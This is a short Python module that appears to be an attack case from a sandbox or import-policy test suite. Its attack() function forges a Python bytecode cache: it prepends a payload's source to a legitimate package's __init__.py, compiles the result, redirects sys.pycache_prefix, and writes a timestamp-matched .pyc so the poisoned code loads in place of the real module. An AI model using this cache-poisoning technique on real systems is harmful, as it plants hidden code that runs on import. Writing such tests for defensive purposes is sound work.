"""sys.pycache_prefix leads to a compiled file of one's own."""
CATEGORY = "forging"
REACH = "net"
POLICIES = "deny"
GRANT = {"read": ["$TMP"], "write": ["$TMP"], "patch": ["sys"]}
ENV = {"PYTHONDONTWRITEBYTECODE": ""}
SILENT = "What lies there is not believed."

import importlib._bootstrap_external as external
import os
import sys

from . import payload


def attack():
    path = payload.DEPS + "/good/__init__.py"
    with open(path) as file:
        text = payload.SOURCE + "\n" + file.read()
    code = compile(text, path, "exec")
    status = os.stat(path)
    sys.pycache_prefix = payload.ROOT + "/tmp"
    cache = external.cache_from_source(path)
    os.makedirs(os.path.dirname(cache), exist_ok=True)
    with open(cache, "wb") as file:
        file.write(external._code_to_timestamp_pyc(
            code, int(status.st_mtime), status.st_size))
